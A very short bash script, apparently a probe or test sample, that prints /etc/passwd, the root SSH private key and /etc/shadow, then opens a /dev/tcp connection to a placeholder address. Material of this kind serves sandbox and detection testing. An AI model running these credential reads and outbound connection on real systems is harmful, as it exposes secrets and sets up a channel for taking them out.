#!/bin/bash
# Looks for what is none of its business.
cat /etc/passwd
cat /root/.ssh/id_rsa
cat /etc/shadow
(exec 3<>/dev/tcp/192.0.2.1/80)
exit 1
